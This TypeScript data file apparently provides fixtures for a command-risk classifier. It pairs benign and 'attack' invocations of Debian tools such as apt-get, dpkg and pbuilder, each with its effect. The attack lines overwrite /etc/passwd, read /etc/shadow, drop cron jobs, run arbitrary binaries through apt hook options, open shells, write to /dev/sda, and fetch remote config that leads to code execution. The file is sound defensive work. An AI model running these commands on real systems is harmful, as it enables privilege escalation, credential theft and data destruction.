import type { ExampleTable } from './example.ts'

export const debianPackages1: ExampleTable = {
  'apport-cli': {
    use: 'apport-cli -c app.crash --save report.txt → read app.crash; write report.txt',
    attack: 'apport-cli -c app.crash --save /etc/passwd → read app.crash; write /etc/passwd',
  },
  'apport-retrace': {
    use: 'apport-retrace app.crash -o traced.crash → read app.crash; write traced.crash; install apport-retrace',
    attack:
      'apport-retrace app.crash -o /etc/passwd → read app.crash; write /etc/passwd; install apport-retrace',
  },
  'apport-unpack': {
    use: 'apport-unpack app.crash out → read app.crash; unpack out',
    attack: 'apport-unpack app.crash /etc/cron.d → read app.crash; unpack /etc/cron.d',
  },
  'apt-add-repository': {
    unclear: [
      `apt-add-repository 'deb [trusted=yes] https://example.net/ ./' → whose packages they are, for nobody has to sign them`,
    ],
    use: 'apt-add-repository ppa:ann/tools → install apt-add-repository',
  },
  'apt-cache': {
    use: 'apt-cache -c apt.conf policy hello → read apt.conf',
    attack: 'apt-cache -o Dir::Bin::dpkg=/tmp/x policy hello → run /tmp/x',
  },
  'apt-cdrom': {
    use: 'apt-cdrom -c apt.conf ident → read apt.conf',
    attack: 'apt-cdrom -o Dir::Bin::dpkg=/tmp/x ident → run /tmp/x',
  },
  'apt-config': {
    use: 'apt-config -c apt.conf dump → read apt.conf',
    attack: 'apt-config -o Dir::Bin::dpkg=/tmp/x dump → run /tmp/x',
  },
  'apt-extracttemplates': {
    use: 'apt-extracttemplates hello.deb → read hello.deb',
    attack: 'apt-extracttemplates -o Dir::Bin::dpkg=/tmp/x hello.deb → run /tmp/x; read hello.deb',
  },
  'apt-ftparchive': {
    use: 'apt-ftparchive --db packages.db packages pool → write packages.db',
    attack: 'apt-ftparchive --db /etc/passwd packages pool → write /etc/passwd',
  },
  'apt-get': {
    unclear: [
      `apt-get -o Acquire::AllowInsecureRepositories=true update → whose packages they are, for nobody has to sign them`,
      `apt-get remove unattended-upgrades → which holes are not mended from then on`,
    ],
    use: 'apt-get -c apt.conf update → read apt.conf',
    attack:
      'curl -so a.conf https://example.org/x && apt-get -c a.conf update → execute ‹https://example.org/x›',
  },
  'apt-get autoclean': {
    use: 'apt-get autoclean → nothing',
    attack: 'apt-get autoclean -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt-get autopurge': {
    use: 'apt-get autopurge → nothing',
    attack: 'apt-get autopurge -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'apt-get autoremove': {
    use: 'apt-get autoremove → nothing',
    attack: 'apt-get autoremove -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'apt-get build-dep': {
    use: 'apt-get build-dep hello → install apt-get build-dep',
    attack:
      'apt-get build-dep hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get build-dep',
  },
  'apt-get changelog': {
    use: 'apt-get changelog hello → nothing',
    attack: 'apt-get changelog hello -o Acquire::http::Proxy-Auto-Detect=/tmp/x → run /tmp/x',
  },
  'apt-get check': {
    use: 'apt-get check → nothing',
    attack: 'apt-get check -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt-get clean': {
    use: 'apt-get clean → nothing',
    attack: 'apt-get clean -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt-get dist-upgrade': {
    use: 'apt-get dist-upgrade → install apt-get dist-upgrade',
    attack:
      'apt-get dist-upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get dist-upgrade',
  },
  'apt-get download': {
    use: 'apt-get download hello → fetch apt-get download',
    attack:
      'apt-get download hello -o Acquire::http::Proxy-Auto-Detect=/tmp/x → run /tmp/x; fetch apt-get download',
  },
  'apt-get full-upgrade': {
    use: 'apt-get full-upgrade → install apt-get full-upgrade',
    attack:
      'apt-get full-upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get full-upgrade',
  },
  'apt-get indextargets': {
    use: 'apt-get indextargets → nothing',
    attack: 'apt-get indextargets -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt-get install': {
    use: 'apt-get install hello → install apt-get install',
    attack:
      'apt-get install hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get install',
  },
  'apt-get purge': {
    use: 'apt-get purge hello → nothing',
    attack: 'apt-get purge hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'apt-get reinstall': {
    use: 'apt-get reinstall hello → install apt-get reinstall',
    attack:
      'apt-get reinstall hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get reinstall',
  },
  'apt-get remove': {
    use: 'apt-get remove hello → nothing',
    attack: 'apt-get remove hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'apt-get satisfy': {
    use: "apt-get satisfy 'hello (>= 2.10)' → install apt-get satisfy",
    attack:
      'apt-get satisfy hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get satisfy',
  },
  'apt-get source': {
    use: 'apt-get source hello → fetch apt-get source',
    attack:
      'apt-get source hello -o Acquire::http::Proxy-Auto-Detect=/tmp/x → run /tmp/x; fetch apt-get source',
  },
  'apt-get update': {
    use: 'apt-get update → nothing',
    attack: 'apt-get update -o APT::Update::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'apt-get upgrade': {
    use: 'apt-get upgrade → install apt-get upgrade',
    attack: 'apt-get upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install apt-get upgrade',
  },
  'apt-key': {
    use: 'apt-key --keyring own.gpg add release.asc → use release.asc; write own.gpg',
    attack: 'apt-key --keyring /etc/passwd add release.asc → use release.asc; write /etc/passwd',
  },
  'apt-mark': {
    unclear: [`apt-mark hold openssh-server → which holes are not mended from then on`],
    use: [`apt-mark hold kubelet → nothing`, 'apt-mark hold hello → nothing'],
    attack: 'apt-mark hold hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt-sortpkgs': {
    use: 'apt-sortpkgs Packages → read Packages',
    attack: 'apt-sortpkgs -o Dir::Bin::dpkg=/tmp/x Packages → run /tmp/x; read Packages',
  },
  aptitude: {
    use: 'aptitude -q update → nothing',
    attack: 'aptitude -o Dir::Bin::dpkg=/tmp/x update → run /tmp/x',
  },
  'aptitude changelog': {
    use: 'aptitude changelog hello → nothing',
    attack: 'aptitude changelog hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'aptitude install': {
    use: 'aptitude install hello → install aptitude install',
    attack:
      'aptitude install hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install aptitude install',
  },
  'aptitude safe-upgrade': {
    use: 'aptitude safe-upgrade → install aptitude safe-upgrade',
    attack:
      'aptitude safe-upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install aptitude safe-upgrade',
  },
  'aptitude search': {
    use: 'aptitude search hello → nothing',
    attack: 'aptitude search hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'aptitude update': {
    use: 'aptitude update → nothing',
    attack: 'aptitude update -o APT::Update::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  dch: {
    use: "dch -v 1.1 -c debian/changelog 'New release' → edit debian/changelog",
    attack: "dch -v 1.1 -c /etc/passwd 'New release' → edit /etc/passwd",
  },
  debconf: {
    use: 'debconf cat notes.txt → read notes.txt',
    attack: ['debconf cat /etc/shadow → read /etc/shadow', 'debconf bash → shell bash'],
  },
  'debconf-set-selections': {
    use: 'debconf-set-selections preseed.cfg → use preseed.cfg',
  },
  debsign: {
    use: 'debsign hello.changes → read hello.changes',
    attack: 'debsign -p /tmp/x hello.changes → run /tmp/x; read hello.changes',
  },
  'do-release-upgrade': {
    use: 'do-release-upgrade → install do-release-upgrade',
  },
  dpkg: {
    use: 'dpkg -i hello.deb → install dpkg; read hello.deb',
    attack: [
      'dpkg --pre-invoke=/tmp/x -i hello.deb → run /tmp/x; install dpkg; read hello.deb',
      'dpkg -x job.deb /etc/cron.d → read job.deb; unpack /etc/cron.d',
    ],
  },
  'dpkg-architecture': {
    use: `dpkg-architecture -c 'cat notes.txt' → read notes.txt`,
    attack: [
      `dpkg-architecture -c 'cat /etc/shadow' → read /etc/shadow`,
      'dpkg-architecture -c /bin/sh → shell sh',
    ],
  },
  'dpkg-buildpackage': {
    use: 'dpkg-buildpackage -us -uc -b → nothing',
    attack: 'dpkg-buildpackage --hook-done=/tmp/x → run /tmp/x',
  },
  'dpkg-deb': {
    use: [
      'dpkg-deb --build pkg hello.deb → read-tree pkg; write hello.deb',
      'dpkg-deb -I hello.deb control → use hello.deb',
      'dpkg-deb --fsys-tarfile hello.deb → read hello.deb',
    ],
    attack: [
      'dpkg-deb --build /root out.deb → read-tree /root; write out.deb',
      'dpkg-deb -x job.deb /etc/cron.d → read job.deb; unpack /etc/cron.d',
    ],
  },
  'dpkg-divert': {
    use: 'dpkg-divert --divert /opt/ls.distrib --rename /bin/ls → write /opt/ls.distrib',
    attack: 'dpkg-divert --divert /etc/cron.d/job --rename /opt/job → write /etc/cron.d/job',
  },
  'dpkg-genchanges': {
    use: 'dpkg-genchanges -Ohello.changes → write hello.changes',
    attack: 'dpkg-genchanges -O/etc/passwd → write /etc/passwd',
  },
  'dpkg-name': {
    use: 'dpkg-name hello.deb → replace hello.deb',
  },
  'dpkg-parsechangelog': {
    use: 'dpkg-parsechangelog -l debian/changelog → read debian/changelog',
    attack: 'dpkg-parsechangelog -l /etc/shadow → read /etc/shadow',
  },
  'dpkg-preconfigure': {
    use: 'dpkg-preconfigure hello.deb → read hello.deb; install dpkg-preconfigure',
  },
  'dpkg-split': {
    use: 'dpkg-split --split hello.deb → read hello.deb',
    attack:
      'dpkg-split -o /etc/passwd --join hello.1of2.deb → read hello.1of2.deb; write /etc/passwd',
  },
  dput: {
    use: 'dput hello.changes → read hello.changes; send dput',
    attack:
      'curl -so d.cf https://example.org/x && dput -c d.cf ftp-master hello.changes → execute ‹https://example.org/x›',
  },
  'equivs-build': {
    use: 'equivs-build hello.control → use hello.control',
  },
  gdebi: {
    use: 'gdebi hello.deb → read hello.deb; install gdebi',
  },
  mmdebstrap: {
    use: 'mmdebstrap stable rootfs.tar https://deb.debian.org/debian → fetch https://deb.debian.org/debian; write rootfs.tar',
    attack: [
      'mmdebstrap stable /dev/sda https://deb.debian.org/debian → fetch https://deb.debian.org/debian; write /dev/sda',
      'mmdebstrap stable rootfs.tar https://deb.debian.org/debian --setup-hook=/tmp/x → run /tmp/x; fetch https://deb.debian.org/debian; write rootfs.tar',
    ],
  },
  'nala install': {
    use: 'nala install hello → install nala install',
    attack: 'nala install hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install nala install',
  },
  'nala remove': {
    use: 'nala remove hello → nothing',
    attack: 'nala remove hello -o DPkg::Post-Invoke::=/tmp/x → run /tmp/x',
  },
  'nala update': {
    use: 'nala update → nothing',
    attack: 'nala update -o APT::Update::Pre-Invoke::=/tmp/x → run /tmp/x',
  },
  'nala upgrade': {
    use: 'nala upgrade → install nala upgrade',
    attack: 'nala upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install nala upgrade',
  },
  needrestart: {
    use: 'needrestart -c needrestart.conf → read needrestart.conf',
    attack:
      'curl -so n.conf https://example.org/x && needrestart -c n.conf → execute ‹https://example.org/x›',
  },
  'pbuilder create': {
    use: 'pbuilder create --distribution stable --basetgz base.tgz → use base.tgz; install pbuilder create',
    attack: 'pbuilder create --hookdir /tmp → load /tmp; install pbuilder create',
  },
  'pbuilder execute': {
    use: 'pbuilder execute -- check.sh → read check.sh',
    attack:
      'curl -so c.sh https://example.org/x && pbuilder execute -- c.sh → execute ‹https://example.org/x›',
  },
  'pbuilder login': {
    attack: 'pbuilder login → session pbuilder login',
  },
  reportbug: {
    use: 'reportbug -i notes.txt hello → read notes.txt; send reportbug',
    attack: 'reportbug -i /etc/shadow hello → read /etc/shadow; send reportbug',
  },
  'apt depends': {
    use: 'apt depends hello → nothing',
    attack: 'apt depends hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt edit-sources': {
    use: 'apt edit-sources -c apt.conf → read apt.conf',
    attack:
      'curl -so a.conf https://example.org/x && apt edit-sources -c a.conf → execute ‹https://example.org/x›',
  },
  'apt list': {
    use: 'apt list --installed → nothing',
    attack: 'apt list -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt policy': {
    use: 'apt policy hello → nothing',
    attack: 'apt policy hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt search': {
    use: 'apt search hello → nothing',
    attack: 'apt search hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'apt show': {
    use: 'apt show hello → nothing',
    attack: 'apt show hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
  },
  'pbuilder build': {
    use: 'pbuilder build --basetgz base.tgz hello.dsc → use base.tgz; read hello.dsc',
    attack: [
      'pbuilder build --hookdir /tmp hello.dsc → load /tmp; read hello.dsc',
      'curl -so rc https://example.org/x && pbuilder build --configfile rc hello.dsc → execute ‹https://example.org/x›; read hello.dsc',
    ],
  },
}
